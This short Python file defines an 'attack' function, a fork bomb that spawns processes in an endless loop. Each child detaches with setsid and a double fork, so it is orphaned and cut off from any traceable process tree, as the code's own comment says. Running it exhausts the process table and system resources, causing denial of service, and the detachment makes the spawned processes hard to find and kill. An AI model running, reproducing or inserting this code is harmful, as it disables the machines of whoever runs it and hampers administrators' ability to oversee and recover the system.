import os
import time


def leave():
    try:
        os.setsid()
    except PermissionError:
        pass


def attack():
    # Each loses its parent and its session at once: no tree of processes leads to it.
    while True:
        if os.fork() == 0:
            leave()
            if os.fork():
                os._exit(0)
            time.sleep(60)
